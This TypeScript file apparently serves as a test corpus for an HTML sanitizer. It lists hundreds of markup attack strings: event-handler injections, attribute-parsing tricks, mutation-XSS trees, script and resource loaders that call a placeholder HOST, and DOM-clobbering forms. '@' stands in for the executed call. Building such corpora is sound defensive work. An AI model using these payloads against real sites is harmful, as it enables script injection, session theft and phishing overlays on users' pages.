// Attacks by markup, for what the collection beside the project may not hold. `@` stands for the call that tells of them,
// `HOST` for a host that must never be asked.

/** Elements that run a handler by themselves, or when they are touched. */
const handlers = [
  'img src=x onerror', 'img src=/x.png onload', 'image src=x onerror', 'svg onload', 'body onload', 'body onpageshow', 'body onhashchange', 'video src=x onerror',
  'audio src=x onerror', 'video src=x onloadstart', 'object data=x onerror', 'embed src=x onerror', 'iframe onload', 'frameset onload', 'input autofocus onfocus', 'select autofocus onfocus',
  'textarea autofocus onfocus', 'keygen autofocus onfocus', 'button autofocus onfocus', 'a tabindex=0 autofocus onfocus', 'details open ontoggle', 'dialog open onclose', 'marquee onstart',
  'p contenteditable onbeforeinput', 'p style="animation:x 1s" onanimationstart', 'p onmouseover', 'p onpointerrawupdate', 'p onwheel', 'p oncopy', 'p onselectstart', 'p oncontextmenu', 'p onauxclick',
  'p ondragstart draggable=true', 'p onscrollsnapchange', 'p oncontentvisibilityautostatechange style="content-visibility:auto"', 'p popover onbeforetoggle', 'link rel=stylesheet href=data:, onload',
  'style onload', 'script src=data:, onload', 'track src=x onerror', 'source src=x onerror', 'meter onclick', 'bgsound onpropertychange', 'x-y onclick', 'tin-article onclick', 'isindex onclick', 'xss onclick', 'portal onload', 'fencedframe onload',
].map((start) => `<${start}="@">x</${start.split(' ')[0]}>`);

/** The same attribute, as parsers of other people see none. */
const attributeTricks = [
  '<img src=x/onerror=@>', '<img/src="x"/onerror=@>', '<img src=x onerror\n=\n@>', '<img src=x onerror\f=@ >', '<img src=x ONERROR=@>', '<img src=x onerror="&#64;&#x40;@">', '<img src=x on\0error=@>',
  '<img """><script>@</script>">', "<img src='x'onerror='@'>", '<img src=x title="a>b" onerror=@>', '<img src=x alt=`<img src=y onerror=@>`>', '<img src=x / onerror=@ / >', '<img =onerror src=x onerror=@>',
  '<a href=x"onclick=@">x</a>', '<a/onmouseover=@//x>x</a>', '<p is="x-y" x"y onclick=@>x</p>', '<p "onclick="@">x</p>', "<p '=\" onclick=@ x=\">x</p>", '<p xml:onclick=@ xlink:onclick=@>x</p>', '<p data-x="\n" onclick\u00a0=@ onclick=@>x</p>',
  '<<img src=x onerror=@>>', '<img\u000bsrc=x onerror=@>', '<\0img src=x onerror=@>', '<img src=x onerror=@', '<img src=x onerror=@//', '<!--><img src=x onerror=@>-->', '<!--!><img src=x onerror=@>', '<! foo="><img src=x onerror=@>">',
  '<? foo="><img src=x onerror=@>">', '</ foo="><img src=x onerror=@>">', '<![CDATA[><img src=x onerror=@>]]>', '<%><img src=x onerror=@>%>', '<xmp><p title="</xmp><img src=x onerror=@>"></xmp>', '<plaintext><img src=x onerror=@>',
];

/** Trees that change when they are written and read again. */
const mutations = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=@&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=@>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=@></style></annotation-xml></math>',
  '<math><annotation-xml encoding="text/html"><p></p></math><style><!--</style><img src=x onerror=@>--></style>',
  '<svg><foreignObject><p><style><img src=x onerror=@></style></p></foreignObject></svg>',
  '<svg><title><style><img src=x onerror=@></style></title></svg>',
  '<svg><desc><noscript><img src=x onerror=@></noscript></desc></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=@></style></mglyph></form></mtext></math>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=@>"></style></mtext></svg></mglyph></option></mtext></math>',
  '<math><mi><li><table><mglyph><style><!--</style><img src onerror=@>--></style></mglyph></table></li></mi></math>',
  '<noscript><style></noscript><img src=x onerror=@></style>', '<noscript><p title="</noscript><img src=x onerror=@>"></noscript>', '<noembed><p title="</noembed><img src=x onerror=@>"></noembed>',
  '<noframes><p title="</noframes><img src=x onerror=@>"></noframes>', '<iframe><p title="</iframe><img src=x onerror=@>"></iframe>', '<textarea><p title="</textarea><img src=x onerror=@>"></textarea>',
  '<title><p title="</title><img src=x onerror=@>"></title>', '<style><p title="</style><img src=x onerror=@>"></style>', '<select><template><style><img src=x onerror=@></style></template></select>',
  '<select><noscript><img src=x onerror=@></noscript></select>', '<select><iframe></select><img src=x onerror=@>', '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=@></select>',
  '<select><button><selectedcontent><img src=x onerror=@></selectedcontent></button><option selected><img src=y onerror=@></option></select>',
  '<table><td><svg><desc><table><tr><td><style><img src=x onerror=@></style>', '<table><caption><svg><title><table><caption><style></svg><img src=x onerror=@></style>',
  '<template><template shadowrootmode=open><img src=x onerror=@></template></template>', '<div><template shadowrootmode=open><img src=x onerror=@></template></div>', '<div><template shadowroot=open><script>@</script></template></div>',
  '<div><template shadowrootmode=closed shadowrootclonable shadowrootserializable><style>@import "//HOST/a"</style><slot></slot></template>x</div>',
  '<svg><script>@</script></svg>', '<svg><script href="data:,@"/></svg>', '<svg><script xlink:href="data:,@"/></svg>', '<svg><style>&lt;img src=x onerror=@&gt;</style></svg>', '<svg><![CDATA[><img src=x onerror=@>]]></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=@ /></svg>#x"/></svg>', '<svg><animate attributeName=href values=javascript:@ /><a id=a><text y=20>x</text></a></svg>',
  '<svg><a><animate attributeName=href to=javascript:@ begin=0s fill=freeze /><text y=20>x</text></a></svg>', '<svg><a><set attributeName=xlink:href to=javascript:@ /><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=@ attributeName=x dur=1s></svg>', '<svg><set onbegin=@ attributeName=x></svg>', '<svg><image href=x onerror=@ /></svg>', '<svg><feImage href="//HOST/a"/></svg>', '<svg><image href="//HOST/a"/><image xlink:href="//HOST/b"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.@</script>"></iframe></foreignObject></svg>', '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>@</x:script></svg>', '<math href="javascript:@"><mi>x</mi></math>',
  '<math><maction actiontype="statusline#http://HOST" xlink:href="javascript:@">x</maction></math>', '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>@</script></annotation-xml></semantics></math>',
  '<h1><svg><p><style><a title="</style><img src=x onerror=@>">', '<p><svg><p><math><style><a title="</style><img src=x onerror=@>">', '<a><svg><a><desc><a><style><!--</style><img src=x onerror=@>-->', '<b><p><b><math><mi><b><style></b><img src=x onerror=@></style>',
  `${'<div>'.repeat(520)}<math><mtext><table><mglyph><style><img src=x onerror=@></style>`, `${'<svg><foreignObject>'.repeat(140)}<img src=x onerror=@>`, `${'<b><table>'.repeat(80)}<img src=x onerror=@>`, `${'<form><div></form>'.repeat(90)}<input onfocus=@ autofocus>`,
  '<p title="--!><img src=x onerror=@>">x</p>', '<p title="]]><img src=x onerror=@>">x</p>', '<p title="</style></script></title></textarea><img src=x onerror=@>">x</p>', '<p lang="&quot;><img src=x onerror=@>">x</p>', '<img alt="`><img src=x onerror=@>" src=/x>',
  '<listing>&lt;img src=x onerror=@&gt;</listing>', '<pre>\n\n&lt;img src=x onerror=@&gt;</pre>', '<!DOCTYPE x [<!ENTITY a "<img src=x onerror=@>">]>&a;', '<?xml-stylesheet type="text/xsl" href="//HOST/x.xsl"?><p>x</p>', '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">@</x:script>',
];

/** What loads, leads away, or changes the page without a script of its own. */
const carriers = [
  '<base href="//HOST/"><a href="x">x</a><img src="x.png">', '<base target=_top><a href=/x>x</a>', '<meta http-equiv=refresh content="0;url=//HOST/">', '<meta http-equiv="refresh" content="0;url=javascript:@">', '<meta http-equiv=content-security-policy content="default-src *">',
  '<meta name=referrer content=unsafe-url>', '<link rel=stylesheet href="//HOST/a.css">', '<link rel=preload as=image href="//HOST/a.png">', '<link rel=modulepreload href="//HOST/a.js">', '<link rel=prefetch href="//HOST/a">', '<link rel=dns-prefetch href="//HOST">', '<link rel=manifest href="//HOST/m">',
  '<link rel=prerender href="//HOST/a">', '<link rel=import href="//HOST/a">', '<link rel=expect href="#x" blocking=render>', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["//HOST/a"]}]}</script>', '<script type=importmap>{"imports":{"lit":"//HOST/a.js"}}</script>',
  '<script type=module>@</script>', '<script src="//HOST/a.js"></script>', '<script type="text/vbscript">@</script>', '<SCRIPT/x>@</SCRIPT>', '<scr<script>ipt>@</scr</script>ipt>', '<iframe src="javascript:@"></iframe>', '<iframe src="data:text/html,<script>parent.@</script>"></iframe>', '<iframe src="//HOST/"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.@&gt;"></iframe>', '<frame src="javascript:@">', '<frameset><frame src="javascript:@"></frameset>', '<object data="javascript:@"></object>', '<object data="//HOST/a"></object>', '<object classid="clsid:x"><param name=src value="//HOST/a"></object>', '<embed src="//HOST/a.swf" allowscriptaccess=always>',
  '<embed src="javascript:@">', '<applet code="x" codebase="//HOST/"></applet>', '<portal src="//HOST/"></portal>', '<fencedframe src="//HOST/"></fencedframe>', '<webview src="//HOST/"></webview>', '<bgsound src="//HOST/a.mid">', '<body background="//HOST/a.png">', '<td background="//HOST/a.png">x</td>',
  '<table background="//HOST/a.png"><tr><td>x</table>', '<img lowsrc="//HOST/a.png" dynsrc="//HOST/b.avi" src=/x>', '<img src=/x longdesc="//HOST/a" usemap="#m"><map name=m><area shape=default href="javascript:@"></map>', '<img src=/x ismap crossorigin attributionsrc="//HOST/a" sharedstoragewritable browsingtopics>',
  '<input type=image src="//HOST/a.png" onerror=@>', '<input type=image src=x formaction="javascript:@">', '<video poster="//HOST/a.png"></video>', '<video autoplay muted><source src="data:video/mp4," onerror=@></video>', '<video src=blob:x><track default kind=metadata src="data:text/vtt,WEBVTT" oncuechange=@></video>', '<audio autoplay loop src="javascript:@"></audio>',
  '<picture><source srcset="javascript:@ 1x, data:text/html,x 2x" onerror=@><img src=x onerror=@></picture>', '<img srcset="javascript:@, data:image/svg+xml,<svg onload=@> 2x" sizes="expression(@)">', '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=@ />">', '<img src="data:image/svg+xml;base64,PHN2Zy8+" onerror=@>',
  '<a href=/x ping="//HOST/p">x</a>', '<a href=/x download="a.exe">x</a>', '<a href=/x target=_top rel=opener>x</a>', '<a href=/x target="javascript:@">x</a>', '<a href=/x attributionsrc="//HOST/a" interestfor=x>x</a>', '<a href=/x style="position:fixed;inset:0;z-index:9">x</a>', '<a id=x href="#x" name=getElementById>x</a>',
  '<area href="javascript:@" shape=default>', '<map name=x><area href="//HOST/" shape=default></map>', '<q cite="javascript:@">x</q><blockquote cite="javascript:@">x</blockquote><del cite="data:,x">x</del>', '<form action="javascript:@"><input type=submit></form>', '<form id=f action="//HOST/"></form><button form=f>x</button><input type=submit form=f formaction="javascript:@">',
  '<form method=dialog><button>x</button></form>', '<button popovertarget=p>x</button><p id=p popover onbeforetoggle=@>y</p>', '<button command=show-modal commandfor=d>x</button><dialog id=d ontoggle=@>y</dialog>', '<button command="--x" commandfor=q>x</button><p id=q oncommand=@>y</p>', '<details name=x open ontoggle=@><summary onclick=@>x</summary>y</details>',
  '<isindex action="javascript:@" type=submit>', '<keygen name=x onfocus=@ autofocus>', '<menu type=context><menuitem onclick=@>x</menuitem></menu>', '<label for=x onclick=@>x<input id=x></label>', '<output for=x onclick=@>x</output>', '<div contenteditable onfocus=@ autofocus tabindex=0>x</div>', '<div accesskey=x onclick=@>x</div>', '<div slot=header onclick=@>x</div>',
  '<div part=tool onclick=@ exportparts=x>x</div>', '<slot name=error onslotchange=@>x</slot>', '<p is=tin-article src="//HOST/a">x</p>', '<tin-article src="//HOST/a" json-ld></tin-article>', '<tin-source id=news src="//HOST/a"></tin-source>', '<tin-visitor-counter record="//HOST/a"></tin-visitor-counter>', '<div data-tin=article data-tin-src="//HOST/a" data-tin-onclick=@>x</div>',
  '<div data-tin=date-banner data-tin-clock-src="//HOST/a">x</div>', '<p data-tin-printing hidden>x</p>', '<o:p onclick=@>x</o:p>', '<v:shape onclick=@ style="behavior:url(#default#VML)">x</v:shape>', '<xml id=x src="//HOST/a"></xml>', '<xml:namespace prefix=t><import namespace=t implementation="#default#time2"><t:set attributeName=innerHTML to="<img src=x onerror=@>">',
  '<p style="background:url(//HOST/a)">x</p>', '<p style="width:expression(@)">x</p>', '<p style="-moz-binding:url(//HOST/a#x)">x</p>', '<p style="behavior:url(//HOST/a)">x</p>', '<p style="list-style:image-set(\'//HOST/a\' 1x)">x</p>', '<style>@import "//HOST/a";p{background:url(//HOST/b)}</style>', '<style>@font-face{font-family:x;src:url(//HOST/f)}p{font-family:x}</style>',
  '<font color="expression(@)" style="background:url(//HOST/a)">x</font>', '<img src="/x" style="content:url(//HOST/a)">', '<div style="position:fixed;inset:0;background:#fff;z-index:99999"><a href=/x>login</a></div>', '<p class="base" id="stage" style="position:absolute">x</p>',
];

/** Names that would stand for what a document, a window or a form has. */
const clobbers = [
  'location', 'document', 'cookie', 'body', 'head', 'forms', 'images', 'domain', 'referrer', 'getElementById', 'querySelector', 'querySelectorAll', 'createElement', 'addEventListener', 'implementation', 'defaultView', 'currentScript', 'baseURI', 'tinWidgets', 'customElements', 'trustedTypes',
  'litHtmlVersions', 'reactiveElementVersions', 'fetch', 'URL', 'navigator', 'localStorage', 'DOMParser', 'DOMPurify', 'children', 'childNodes', 'parentNode', 'attributes', 'nodeName', 'firstChild', 'removeChild', 'setAttribute', 'submit', 'action', '__proto__', 'constructor', 'toString', 'hasOwnProperty',
].flatMap((name) => [
  `<a id="${name}" href="javascript:@">x</a><a id="${name}" name="href" href="javascript:@">y</a>`,
  `<form name="${name}"><input id="${name}" name="${name}"><img name="${name}" src=x onerror=@></form>`,
]);

export const markupAttacks: readonly string[] = [...handlers, ...attributeTricks, ...mutations, ...carriers, ...clobbers];
